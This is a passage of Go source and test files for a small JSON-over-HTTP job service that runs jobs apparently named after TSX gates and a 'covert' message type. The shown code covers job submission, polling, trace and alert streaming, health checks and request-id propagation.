			event = strings.TrimPrefix(line, "event: ")
		case strings.HasPrefix(line, "data: "):
			data = strings.TrimPrefix(line, "data: ")
		case line == "" && event == "transition":
			if !strings.Contains(data, `"state":"firing"`) {
				t.Fatalf("transition payload %q missing firing state", data)
			}
			return
		}
	}
	t.Fatalf("stream ended without a transition event: %v", sc.Err())
}

// TestStreamSubscribersReleasedOnDrain is the SSE-cleanup satellite:
// clients parked on /v1/traces/stream and /v1/alerts/stream while the
// server shuts down must not leak their handler goroutines — the
// drain closes every subscriber channel and the handlers return.
func TestStreamSubscribersReleasedOnDrain(t *testing.T) {
	fr := flightrec.New(flightrec.Config{})
	sloEng, err := slo.New(slo.Config{SLOs: tightLatencySLO()})
	if err != nil {
		t.Fatal(err)
	}
	e, err := engine.New(engine.Config{Workers: 1, FlightRec: fr, SLO: sloEng})
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(New(e))

	before := runtime.NumGoroutine()

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var bodies []interface{ Close() error }
	for _, path := range []string{"/v1/traces/stream", "/v1/alerts/stream"} {
		for i := 0; i < 3; i++ {
			req, _ := http.NewRequestWithContext(ctx, http.MethodGet, srv.URL+path, nil)
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			// Read the SSE preamble so the handler is known to be parked
			// in its select loop before the drain starts.
			buf := make([]byte, 1)
			if _, err := resp.Body.Read(buf); err != nil {
				t.Fatal(err)
			}
			bodies = append(bodies, resp.Body)
		}
	}

	// SIGTERM drain order: stop intake, close the engine, close the SLO
	// engine (its subscriber channels close, unwinding the alert
	// streams), then drop the clients (unwinding the trace streams via
	// their request contexts).
	dctx, dcancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer dcancel()
	if err := e.Close(dctx); err != nil {
		t.Fatal(err)
	}
	sloEng.Close()
	cancel()
	for _, b := range bodies {
		b.Close()
	}
	srv.Close()

	// The handler goroutines must unwind. Poll with a deadline: the
	// runtime needs a moment to retire them.
	deadline := time.Now().Add(10 * time.Second)
	for {
		runtime.GC()
		if n := runtime.NumGoroutine(); n <= before+2 {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("goroutines %d, want <= %d (+2 slack): stream handlers leaked",
				runtime.NumGoroutine(), before)
		}
		time.Sleep(50 * time.Millisecond)
	}
}
