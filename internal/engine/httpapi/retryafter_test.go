package httpapi

import "testing"

func TestRetryAfterFrom(t *testing.T) {
	cases := []struct {
		name  string
		depth int
		rate  float64
		want  int
	}{
		{"no observed rate", 10, 0, 1},
		{"negative rate", 10, -1, 1},
		{"backlog over rate rounds up", 10, 5, 3},      // (10+1)/5 = 2.2 → 3
		{"fast pool floors at one second", 2, 1000, 1}, // 3ms of backlog
		{"deep queue clamps at thirty", 10_000, 1, 30}, // honest answer is hours
		{"empty queue still says one", 0, 2, 1},        // (0+1)/2 = 0.5 → 1
		{"exact division has no off-by-one", 9, 5, 2},  // (9+1)/5 = 2
	}
	for _, c := range cases {
		if got := retryAfterFrom(c.depth, c.rate); got != c.want {
			t.Errorf("%s: retryAfterFrom(%d, %v) = %d, want %d",
				c.name, c.depth, c.rate, got, c.want)
		}
	}
}
