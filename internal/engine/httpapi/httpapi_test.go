package httpapi

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"uwm/internal/engine"
)

func newServer(t *testing.T, cfg engine.Config) (*engine.Engine, *httptest.Server) {
	t.Helper()
	e, err := engine.New(cfg)
	if err != nil {
		t.Fatalf("engine.New: %v", err)
	}
	srv := httptest.NewServer(New(e))
	t.Cleanup(func() {
		srv.Close()
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		e.Close(ctx)
	})
	return e, srv
}

func decode(t *testing.T, resp *http.Response, dst any) {
	t.Helper()
	defer resp.Body.Close()
	if err := json.NewDecoder(resp.Body).Decode(dst); err != nil {
		t.Fatalf("decoding response: %v", err)
	}
}

func TestSyncSubmitRunsJob(t *testing.T) {
	_, srv := newServer(t, engine.Config{Workers: 1})
	resp, err := http.Post(srv.URL+"/v1/jobs?wait=1", "application/json",
		strings.NewReader(`{"type":"gate","params":{"gate":"TSX_XOR","random":4}}`))
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status %d, want 200", resp.StatusCode)
	}
	var snap engine.Snapshot
	decode(t, resp, &snap)
	if snap.Status != engine.StatusDone {
		t.Fatalf("job status %s, err %q", snap.Status, snap.Error)
	}
	if snap.Result == nil || len(snap.Result.Value) == 0 {
		t.Fatal("sync response has no result")
	}
}

func TestAsyncSubmitAndPoll(t *testing.T) {
	_, srv := newServer(t, engine.Config{Workers: 1})
	resp, err := http.Post(srv.URL+"/v1/jobs", "application/json",
		strings.NewReader(`{"type":"covert","params":{"message":"poll me"}}`))
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusAccepted {
		t.Fatalf("submit status %d, want 202", resp.StatusCode)
	}
	var snap engine.Snapshot
	decode(t, resp, &snap)
	if snap.ID == "" {
		t.Fatal("202 response carries no job id")
	}

	deadline := time.Now().Add(60 * time.Second)
	for !snap.Status.Terminal() {
		if time.Now().After(deadline) {
			t.Fatalf("job %s stuck in %s", snap.ID, snap.Status)
		}
		time.Sleep(20 * time.Millisecond)
		resp, err := http.Get(srv.URL + "/v1/jobs/" + snap.ID)
		if err != nil {
			t.Fatal(err)
		}
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("poll status %d", resp.StatusCode)
		}
		decode(t, resp, &snap)
	}
	if snap.Status != engine.StatusDone {
		t.Fatalf("job status %s, err %q", snap.Status, snap.Error)
	}
}

func TestQueueFullMapsTo429(t *testing.T) {
	// One worker occupied by a slow hash, queue of one: the third
	// submission must bounce with 429 and a Retry-After hint.
	_, srv := newServer(t, engine.Config{Workers: 1, QueueDepth: 1})
	slow := `{"type":"sha1","params":{"message":"` + strings.Repeat("z", 120) + `"}}`
	if resp, err := http.Post(srv.URL+"/v1/jobs", "application/json", strings.NewReader(slow)); err != nil {
		t.Fatal(err)
	} else {
		resp.Body.Close()
	}

	var last int
	deadline := time.Now().Add(30 * time.Second)
	for {
		resp, err := http.Post(srv.URL+"/v1/jobs", "application/json", strings.NewReader(slow))
		if err != nil {
			t.Fatal(err)
		}
		last = resp.StatusCode
		if last == http.StatusTooManyRequests {
			if resp.Header.Get("Retry-After") == "" {
				t.Error("429 without Retry-After")
			}
			resp.Body.Close()
			return
		}
		resp.Body.Close()
		if time.Now().After(deadline) {
			t.Fatalf("never saw 429, last status %d", last)
		}
	}
}

func TestBadRequests(t *testing.T) {
	_, srv := newServer(t, engine.Config{Workers: 1})
	for _, tc := range []struct {
		name, body string
		want       int
	}{
		{"unknown type", `{"type":"nope"}`, http.StatusBadRequest},
		{"invalid JSON", `{"type":`, http.StatusBadRequest},
		{"bad params", `{"type":"gate","params":{"gadget":"AND"}}`, http.StatusBadRequest},
	} {
		resp, err := http.Post(srv.URL+"/v1/jobs?wait=1", "application/json", strings.NewReader(tc.body))
		if err != nil {
			t.Fatal(err)
		}
		var status int
		if tc.name == "bad params" {
			// Unknown params fields surface when the handler runs.
			var snap engine.Snapshot
			decode(t, resp, &snap)
			if resp.StatusCode == http.StatusOK && snap.Status == engine.StatusFailed {
				continue
			}
			status = resp.StatusCode
		} else {
			resp.Body.Close()
			status = resp.StatusCode
		}
		if status != tc.want {
			t.Errorf("%s: status %d, want %d", tc.name, status, tc.want)
		}
	}
}

func TestListTypesAndJobs(t *testing.T) {
	_, srv := newServer(t, engine.Config{Workers: 1})
	resp, err := http.Get(srv.URL + "/v1/types")
	if err != nil {
		t.Fatal(err)
	}
	var types []string
	decode(t, resp, &types)
	if len(types) < 4 {
		t.Errorf("types = %v, want at least the 4 built-ins", types)
	}

	if resp, err := http.Post(srv.URL+"/v1/jobs?wait=1", "application/json",
		strings.NewReader(`{"type":"gate","params":{"gate":"AND","random":2}}`)); err != nil {
		t.Fatal(err)
	} else {
		resp.Body.Close()
	}
	resp, err = http.Get(srv.URL + "/v1/jobs")
	if err != nil {
		t.Fatal(err)
	}
	var jobs []engine.Snapshot
	decode(t, resp, &jobs)
	if len(jobs) != 1 {
		t.Errorf("listed %d jobs, want 1", len(jobs))
	}

	resp, err = http.Get(srv.URL + "/v1/jobs/job-does-not-exist")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusNotFound {
		t.Errorf("missing job: status %d, want 404", resp.StatusCode)
	}
}

func TestQuorumUnhealthy(t *testing.T) {
	for _, tc := range []struct {
		workers, healthy int
		want             bool
	}{
		{1, 1, false}, {1, 0, true},
		{2, 2, false}, {2, 1, false}, {2, 0, true},
		{4, 2, false}, {4, 1, true},
		{0, 0, false},
	} {
		st := engine.Stats{Workers: tc.workers, HealthyWorkers: tc.healthy}
		if got := quorumUnhealthy(st); got != tc.want {
			t.Errorf("quorumUnhealthy(%d workers, %d healthy) = %v, want %v",
				tc.workers, tc.healthy, got, tc.want)
		}
	}
}

func TestHealthDetail(t *testing.T) {
	_, srv := newServer(t, engine.Config{Workers: 2})
	if resp, err := http.Post(srv.URL+"/v1/jobs?wait=1", "application/json",
		strings.NewReader(`{"type":"gate","params":{"gate":"TSX_AND","random":4}}`)); err != nil {
		t.Fatal(err)
	} else {
		resp.Body.Close()
	}

	resp, err := http.Get(srv.URL + "/v1/health/detail")
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("health detail status %d", resp.StatusCode)
	}
	var workers []engine.WorkerHealth
	decode(t, resp, &workers)
	if len(workers) != 2 {
		t.Fatalf("health detail lists %d workers, want 2", len(workers))
	}
	for i, w := range workers {
		if w.Worker != i {
			t.Errorf("worker %d has id %d", i, w.Worker)
		}
		if w.Snapshot.Threshold == 0 || w.Snapshot.Calibrations != 1 {
			t.Errorf("worker %d snapshot missing calibration: %+v", i, w.Snapshot)
		}
	}
	// The worker that ran the job reports its timed reads.
	total := int64(0)
	for _, w := range workers {
		total += w.Snapshot.Reads
	}
	if total == 0 {
		t.Error("no worker reports timed reads after a gate job")
	}
}

func TestRequestIDPropagation(t *testing.T) {
	_, srv := newServer(t, engine.Config{Workers: 1})

	// Caller-supplied id: echoed on the response and stored on the job.
	req, err := http.NewRequest(http.MethodPost, srv.URL+"/v1/jobs?wait=1",
		strings.NewReader(`{"type":"gate","params":{"gate":"TSX_ASSIGN","inputs":[[1]]}}`))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("X-Request-Id", "caller-id-42")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	if got := resp.Header.Get("X-Request-Id"); got != "caller-id-42" {
		t.Errorf("echoed request id = %q, want caller-id-42", got)
	}
	var snap engine.Snapshot
	decode(t, resp, &snap)
	if snap.RequestID != "caller-id-42" {
		t.Errorf("job snapshot request id = %q", snap.RequestID)
	}

	// No id supplied: one is generated, echoed, and attached to the job.
	resp, err = http.Post(srv.URL+"/v1/jobs?wait=1", "application/json",
		strings.NewReader(`{"type":"gate","params":{"gate":"TSX_ASSIGN","inputs":[[0]]}}`))
	if err != nil {
		t.Fatal(err)
	}
	gen := resp.Header.Get("X-Request-Id")
	if gen == "" {
		t.Fatal("no generated request id on response")
	}
	decode(t, resp, &snap)
	if snap.RequestID != gen {
		t.Errorf("job snapshot id %q != response header %q", snap.RequestID, gen)
	}

	// Non-submission endpoints echo too.
	resp, err = http.Get(srv.URL + "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.Header.Get("X-Request-Id") == "" {
		t.Error("healthz response missing request id")
	}
}

func TestHealthz(t *testing.T) {
	e, srv := newServer(t, engine.Config{Workers: 2})
	resp, err := http.Get(srv.URL + "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("healthz status %d", resp.StatusCode)
	}
	var st healthzBody
	decode(t, resp, &st)
	if st.Workers != 2 || st.Draining || st.Status != "ok" {
		t.Errorf("healthz stats %+v", st)
	}
	if st.HealthyWorkers != 2 {
		t.Errorf("healthy workers = %d, want 2", st.HealthyWorkers)
	}

	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if err := e.Close(ctx); err != nil {
		t.Fatal(err)
	}
	resp, err = http.Get(srv.URL + "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusServiceUnavailable {
		t.Errorf("healthz while draining: status %d, want 503", resp.StatusCode)
	}
}
