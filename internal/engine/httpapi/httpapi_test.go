package httpapi

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"uwm/internal/engine"
)

func newServer(t *testing.T, cfg engine.Config) (*engine.Engine, *httptest.Server) {
	t.Helper()
	e, err := engine.New(cfg)
	if err != nil {
		t.Fatalf("engine.New: %v", err)
	}
	srv := httptest.NewServer(New(e))
	t.Cleanup(func() {
		srv.Close()
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		e.Close(ctx)
	})
	return e, srv
}

func decode(t *testing.T, resp *http.Response, dst any) {
	t.Helper()
	defer resp.Body.Close()
	if err := json.NewDecoder(resp.Body).Decode(dst); err != nil {
		t.Fatalf("decoding response: %v", err)
	}
}

func TestSyncSubmitRunsJob(t *testing.T) {
	_, srv := newServer(t, engine.Config{Workers: 1})
	resp, err := http.Post(srv.URL+"/v1/jobs?wait=1", "application/json",
		strings.NewReader(`{"type":"gate","params":{"gate":"TSX_XOR","random":4}}`))
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("status %d, want 200", resp.StatusCode)
	}
	var snap engine.Snapshot
	decode(t, resp, &snap)
	if snap.Status != engine.StatusDone {
		t.Fatalf("job status %s, err %q", snap.Status, snap.Error)
	}
	if snap.Result == nil || len(snap.Result.Value) == 0 {
		t.Fatal("sync response has no result")
	}
}

func TestAsyncSubmitAndPoll(t *testing.T) {
	_, srv := newServer(t, engine.Config{Workers: 1})
	resp, err := http.Post(srv.URL+"/v1/jobs", "application/json",
		strings.NewReader(`{"type":"covert","params":{"message":"poll me"}}`))
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusAccepted {
		t.Fatalf("submit status %d, want 202", resp.StatusCode)
	}
	var snap engine.Snapshot
	decode(t, resp, &snap)
	if snap.ID == "" {
		t.Fatal("202 response carries no job id")
	}

	deadline := time.Now().Add(60 * time.Second)
	for !snap.Status.Terminal() {
		if time.Now().After(deadline) {
			t.Fatalf("job %s stuck in %s", snap.ID, snap.Status)
		}
		time.Sleep(20 * time.Millisecond)
		resp, err := http.Get(srv.URL + "/v1/jobs/" + snap.ID)
		if err != nil {
			t.Fatal(err)
		}
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("poll status %d", resp.StatusCode)
		}
		decode(t, resp, &snap)
	}
	if snap.Status != engine.StatusDone {
		t.Fatalf("job status %s, err %q", snap.Status, snap.Error)
	}
}

func TestQueueFullMapsTo429(t *testing.T) {
	// One worker occupied by a slow hash, queue of one: the third
	// submission must bounce with 429 and a Retry-After hint.
	_, srv := newServer(t, engine.Config{Workers: 1, QueueDepth: 1})
	slow := `{"type":"sha1","params":{"message":"` + strings.Repeat("z", 120) + `"}}`
	if resp, err := http.Post(srv.URL+"/v1/jobs", "application/json", strings.NewReader(slow)); err != nil {
		t.Fatal(err)
	} else {
		resp.Body.Close()
	}

	var last int
	deadline := time.Now().Add(30 * time.Second)
	for {
		resp, err := http.Post(srv.URL+"/v1/jobs", "application/json", strings.NewReader(slow))
		if err != nil {
			t.Fatal(err)
		}
		last = resp.StatusCode
		if last == http.StatusTooManyRequests {
			if resp.Header.Get("Retry-After") == "" {
				t.Error("429 without Retry-After")
			}
			resp.Body.Close()
			return
		}
		resp.Body.Close()
		if time.Now().After(deadline) {
			t.Fatalf("never saw 429, last status %d", last)
		}
	}
}

func TestBadRequests(t *testing.T) {
	_, srv := newServer(t, engine.Config{Workers: 1})
	for _, tc := range []struct {
		name, body string
		want       int
	}{
		{"unknown type", `{"type":"nope"}`, http.StatusBadRequest},
		{"invalid JSON", `{"type":`, http.StatusBadRequest},
		{"bad params", `{"type":"gate","params":{"gadget":"AND"}}`, http.StatusBadRequest},
	} {
		resp, err := http.Post(srv.URL+"/v1/jobs?wait=1", "application/json", strings.NewReader(tc.body))
		if err != nil {
			t.Fatal(err)
		}
		var status int
		if tc.name == "bad params" {
			// Unknown params fields surface when the handler runs.
			var snap engine.Snapshot
			decode(t, resp, &snap)
			if resp.StatusCode == http.StatusOK && snap.Status == engine.StatusFailed {
				continue
			}
			status = resp.StatusCode
		} else {
			resp.Body.Close()
			status = resp.StatusCode
		}
		if status != tc.want {
			t.Errorf("%s: status %d, want %d", tc.name, status, tc.want)
		}
	}
}

func TestListTypesAndJobs(t *testing.T) {
	_, srv := newServer(t, engine.Config{Workers: 1})
	resp, err := http.Get(srv.URL + "/v1/types")
	if err != nil {
		t.Fatal(err)
	}
	var types []string
	decode(t, resp, &types)
	if len(types) < 4 {
		t.Errorf("types = %v, want at least the 4 built-ins", types)
	}

	if resp, err := http.Post(srv.URL+"/v1/jobs?wait=1", "application/json",
		strings.NewReader(`{"type":"gate","params":{"gate":"AND","random":2}}`)); err != nil {
		t.Fatal(err)
	} else {
		resp.Body.Close()
	}
	resp, err = http.Get(srv.URL + "/v1/jobs")
	if err != nil {
		t.Fatal(err)
	}
	var jobs []engine.Snapshot
	decode(t, resp, &jobs)
	if len(jobs) != 1 {
		t.Errorf("listed %d jobs, want 1", len(jobs))
	}

	resp, err = http.Get(srv.URL + "/v1/jobs/job-does-not-exist")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusNotFound {
		t.Errorf("missing job: status %d, want 404", resp.StatusCode)
	}
}

func TestHealthz(t *testing.T) {
	e, srv := newServer(t, engine.Config{Workers: 2})
	resp, err := http.Get(srv.URL + "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("healthz status %d", resp.StatusCode)
	}
	var st engine.Stats
	decode(t, resp, &st)
	if st.Workers != 2 || st.Draining {
		t.Errorf("healthz stats %+v", st)
	}

	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if err := e.Close(ctx); err != nil {
		t.Fatal(err)
	}
	resp, err = http.Get(srv.URL + "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusServiceUnavailable {
		t.Errorf("healthz while draining: status %d, want 503", resp.StatusCode)
	}
}
