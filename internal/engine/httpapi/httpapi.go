// Package httpapi exposes an engine.Engine as a small JSON-over-HTTP
// job service. The surface is deliberately tiny:
//
//	POST /v1/jobs            submit a job; ?wait=1 (or "wait": true) blocks
//	                         for the result, otherwise 202 + a pollable id
//	GET  /v1/jobs            list retained jobs
//	GET  /v1/jobs/{id}       poll one job
//	GET  /v1/jobs/{id}/trace download the job's flight-recording
//	                         (?format=jsonl|chrome; job or request id)
//	GET  /v1/traces          flight-recorder index: every kept trace's
//	                         sampling decision and reason, newest first
//	GET  /v1/traces/stream   SSE live tail of sampling decisions
//	GET  /v1/types           registered job types
//	GET  /v1/health/detail   per-worker gate-health snapshots
//	GET  /v1/slo             SLO status: objectives, budget consumed,
//	                         per-policy burn rates
//	GET  /v1/alerts          flat alert view, firing count, correlated
//	                         kept-trace ids on firing rows
//	GET  /v1/alerts/stream   SSE live tail of alert fire/resolve
//	                         transitions
//	GET  /v1/logs            the structured event log's in-memory ring
//	GET  /healthz            pool stats; 503 once the engine is draining
//	                         or a quorum of workers is unhealthy
//
// Backpressure maps directly: a full engine queue turns into HTTP 429
// with a Retry-After hint, so load shedding happens at the edge
// instead of by queue growth.
//
// Every response carries an X-Request-Id header: the caller's, when the
// request had one (a W3C traceparent's trace-id serves as fallback), or
// a freshly generated id. Submissions propagate the id into the job
// spec, where the engine attaches it to the job's trace spans — one id
// correlates the HTTP exchange, the stored job snapshot and the
// recorded trace, and the flight-recorder endpoints resolve it
// interchangeably with the job id.
package httpapi

import (
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math"
	"net/http"
	"strconv"
	"strings"
	"time"

	"uwm/internal/engine"
	"uwm/internal/flightrec"
	"uwm/internal/trace"
)

// maxBodyBytes bounds a submission body; params are small JSON
// objects, not payload blobs.
const maxBodyBytes = 1 << 20

// requestIDHeader is the correlation-id header, accepted inbound and
// echoed on every response.
const requestIDHeader = "X-Request-Id"

// maxRequestIDLen truncates absurd caller-supplied ids so they stay
// usable as span annotations and log fields.
const maxRequestIDLen = 128

// JobRequest is the POST /v1/jobs body.
type JobRequest struct {
	// Type selects a registered job type (see GET /v1/types).
	Type string `json:"type"`
	// Params is the handler-specific parameter object.
	Params json.RawMessage `json:"params,omitempty"`
	// TimeoutMS bounds the job's execution in milliseconds; zero uses
	// the engine default.
	TimeoutMS int64 `json:"timeout_ms,omitempty"`
	// Seed, Attempts and Vote override the engine's derived sub-seed
	// and retry policy per job (zero keeps the defaults).
	Seed     uint64 `json:"seed,omitempty"`
	Attempts int    `json:"attempts,omitempty"`
	Vote     int    `json:"vote,omitempty"`
	// Wait makes the submission synchronous: the response carries the
	// terminal snapshot instead of a pollable 202.
	Wait bool `json:"wait,omitempty"`
}

// errorBody is the uniform error envelope.
type errorBody struct {
	Error string `json:"error"`
}

// healthzBody is the /healthz payload: the pool stats plus the verdict
// the status code encodes, spelled out for humans reading the body.
type healthzBody struct {
	engine.Stats
	Status string `json:"status"`
}

// New returns the service's http.Handler.
func New(e *engine.Engine) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("POST /v1/jobs", func(w http.ResponseWriter, r *http.Request) {
		submit(e, w, r)
	})
	mux.HandleFunc("GET /v1/jobs", func(w http.ResponseWriter, r *http.Request) {
		jobs := e.Jobs()
		snaps := make([]engine.Snapshot, len(jobs))
		for i, j := range jobs {
			snaps[i] = j.Snapshot()
		}
		writeJSON(w, http.StatusOK, snaps)
	})
	mux.HandleFunc("GET /v1/jobs/{id}", func(w http.ResponseWriter, r *http.Request) {
		j, ok := e.Get(r.PathValue("id"))
		if !ok {
			writeJSON(w, http.StatusNotFound, errorBody{Error: "no such job"})
			return
		}
		writeJSON(w, http.StatusOK, j.Snapshot())
	})
	mux.HandleFunc("GET /v1/jobs/{id}/trace", func(w http.ResponseWriter, r *http.Request) {
		jobTrace(e, w, r)
	})
	mux.HandleFunc("GET /v1/traces", func(w http.ResponseWriter, r *http.Request) {
		tracesIndex(e, w, r)
	})
	mux.HandleFunc("GET /v1/traces/stream", func(w http.ResponseWriter, r *http.Request) {
		tracesStream(e, w, r)
	})
	mux.HandleFunc("GET /v1/types", func(w http.ResponseWriter, _ *http.Request) {
		writeJSON(w, http.StatusOK, engine.JobTypes())
	})
	mux.HandleFunc("GET /v1/health/detail", func(w http.ResponseWriter, _ *http.Request) {
		writeJSON(w, http.StatusOK, e.Health())
	})
	mux.HandleFunc("GET /v1/slo", func(w http.ResponseWriter, r *http.Request) {
		sloStatus(e, w, r)
	})
	mux.HandleFunc("GET /v1/alerts", func(w http.ResponseWriter, r *http.Request) {
		alerts(e, w, r)
	})
	mux.HandleFunc("GET /v1/alerts/stream", func(w http.ResponseWriter, r *http.Request) {
		alertsStream(e, w, r)
	})
	mux.HandleFunc("GET /v1/logs", func(w http.ResponseWriter, r *http.Request) {
		logs(e, w, r)
	})
	mux.HandleFunc("GET /healthz", func(w http.ResponseWriter, _ *http.Request) {
		st := e.Stats()
		code := http.StatusOK
		status := "ok"
		switch {
		case st.Draining:
			code = http.StatusServiceUnavailable
			status = "draining"
		case quorumUnhealthy(st):
			code = http.StatusServiceUnavailable
			status = "degraded"
		}
		writeJSON(w, code, healthzBody{Stats: st, Status: status})
	})
	return WithRequestID(mux)
}

// quorumUnhealthy reports whether so many workers are unhealthy that
// the pool can no longer be trusted: more than half the workers fail
// their health check. A lone drifting worker self-heals at its next job
// boundary and should not flip the service-wide probe.
func quorumUnhealthy(st engine.Stats) bool {
	unhealthy := st.Workers - st.HealthyWorkers
	return st.Workers > 0 && 2*unhealthy > st.Workers
}

// jobTrace serves a kept flight-recording by job or request id, as
// JSONL (the uwm-trace input format, default) or as a Chrome
// trace_event document for chrome://tracing / Perfetto.
func jobTrace(e *engine.Engine, w http.ResponseWriter, r *http.Request) {
	fr := e.FlightRecorder()
	if fr == nil {
		writeJSON(w, http.StatusNotFound,
			errorBody{Error: "flight recorder disabled (engine started without one)"})
		return
	}
	format := r.URL.Query().Get("format")
	switch format {
	case "", "jsonl", "chrome":
	default:
		writeJSON(w, http.StatusBadRequest,
			errorBody{Error: fmt.Sprintf("unknown format %q (want jsonl or chrome)", format)})
		return
	}
	kt, ok := fr.Get(r.PathValue("id"))
	if !ok {
		writeJSON(w, http.StatusNotFound,
			errorBody{Error: "no kept trace for this id (not sampled, evicted, or unknown)"})
		return
	}
	w.Header().Set("X-Trace-Decision", kt.Entry.Reason)
	if format == "chrome" {
		w.Header().Set("Content-Type", "application/json")
		s := trace.NewChromeSink(w)
		for _, ev := range kt.Events {
			s.Emit(ev)
		}
		_ = s.Close() // the response writer is not a Closer; this only flushes
		return
	}
	w.Header().Set("Content-Type", "application/x-ndjson")
	_ = trace.EncodeJSONL(w, kt.Events)
}

// tracesIndex serves the flight recorder's index, newest first.
func tracesIndex(e *engine.Engine, w http.ResponseWriter, _ *http.Request) {
	fr := e.FlightRecorder()
	if fr == nil {
		writeJSON(w, http.StatusNotFound,
			errorBody{Error: "flight recorder disabled (engine started without one)"})
		return
	}
	idx := fr.Index()
	if idx == nil {
		idx = []flightrec.Entry{}
	}
	writeJSON(w, http.StatusOK, idx)
}

// tracesStream is the SSE live tail: every sampling decision — kept or
// dropped — streams to the client as one `decision` event. The
// subscription is released when the client disconnects.
func tracesStream(e *engine.Engine, w http.ResponseWriter, r *http.Request) {
	fr := e.FlightRecorder()
	if fr == nil {
		writeJSON(w, http.StatusNotFound,
			errorBody{Error: "flight recorder disabled (engine started without one)"})
		return
	}
	fl, ok := w.(http.Flusher)
	if !ok {
		writeJSON(w, http.StatusInternalServerError,
			errorBody{Error: "streaming unsupported by this connection"})
		return
	}
	ch, cancel := fr.Subscribe()
	defer cancel()

	h := w.Header()
	h.Set("Content-Type", "text/event-stream")
	h.Set("Cache-Control", "no-cache")
	w.WriteHeader(http.StatusOK)
	fmt.Fprint(w, ": uwm flight-recorder live tail\n\n")
	fl.Flush()
	for {
		select {
		case <-r.Context().Done():
			return
		case entry, open := <-ch:
			if !open {
				return
			}
			b, err := json.Marshal(entry)
			if err != nil {
				continue
			}
			fmt.Fprintf(w, "event: decision\ndata: %s\n\n", b)
			fl.Flush()
		}
	}
}

// WithRequestID ensures every request carries a correlation id and
// every response echoes it. Inbound X-Request-Id wins; without one, the
// trace-id of a W3C traceparent header is adopted so jobs submitted by
// an instrumented client correlate under the caller's distributed
// trace; otherwise a fresh id is generated. Exported so the cluster
// gateway assigns ids by the same rules — an id minted at either tier
// resolves identically at both.
func WithRequestID(next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		id := r.Header.Get(requestIDHeader)
		if len(id) > maxRequestIDLen {
			id = id[:maxRequestIDLen]
		}
		if id == "" {
			if tid, ok := parseTraceparent(r.Header.Get("traceparent")); ok {
				id = tid
			}
		}
		if id == "" {
			id = newRequestID()
		}
		r.Header.Set(requestIDHeader, id) // downstream handlers read it back
		w.Header().Set(requestIDHeader, id)
		next.ServeHTTP(w, r)
	})
}

// parseTraceparent extracts the trace-id from a W3C traceparent header
// ("version-traceid-parentid-flags", e.g. "00-4bf9…-00f0…-01"). An
// all-zero trace-id is invalid per the spec and rejected.
func parseTraceparent(h string) (string, bool) {
	parts := strings.Split(h, "-")
	if len(parts) != 4 || len(parts[1]) != 32 || len(parts[2]) != 16 || len(parts[3]) != 2 {
		return "", false
	}
	zero := true
	for _, c := range parts[1] {
		switch {
		case c >= '0' && c <= '9':
			if c != '0' {
				zero = false
			}
		case c >= 'a' && c <= 'f':
			zero = false
		default:
			return "", false
		}
	}
	if zero {
		return "", false
	}
	return parts[1], true
}

// newRequestID generates a 16-hex-char random id. Randomness failures
// degrade to a fixed id rather than failing the request: correlation is
// best-effort observability, not a security boundary.
func newRequestID() string {
	var b [8]byte
	if _, err := rand.Read(b[:]); err != nil {
		return "req-unavailable"
	}
	return hex.EncodeToString(b[:])
}

func submit(e *engine.Engine, w http.ResponseWriter, r *http.Request) {
	body, err := io.ReadAll(io.LimitReader(r.Body, maxBodyBytes+1))
	if err != nil {
		writeJSON(w, http.StatusBadRequest, errorBody{Error: "reading body: " + err.Error()})
		return
	}
	if len(body) > maxBodyBytes {
		writeJSON(w, http.StatusRequestEntityTooLarge, errorBody{Error: "body too large"})
		return
	}
	var req JobRequest
	if len(body) > 0 {
		if err := json.Unmarshal(body, &req); err != nil {
			writeJSON(w, http.StatusBadRequest, errorBody{Error: "bad request JSON: " + err.Error()})
			return
		}
	}

	job, err := e.Submit(engine.JobSpec{
		Type:      req.Type,
		Params:    req.Params,
		Timeout:   time.Duration(req.TimeoutMS) * time.Millisecond,
		Seed:      req.Seed,
		Attempts:  req.Attempts,
		Vote:      req.Vote,
		RequestID: r.Header.Get(requestIDHeader),
	})
	switch {
	case errors.Is(err, engine.ErrQueueFull):
		w.Header().Set("Retry-After",
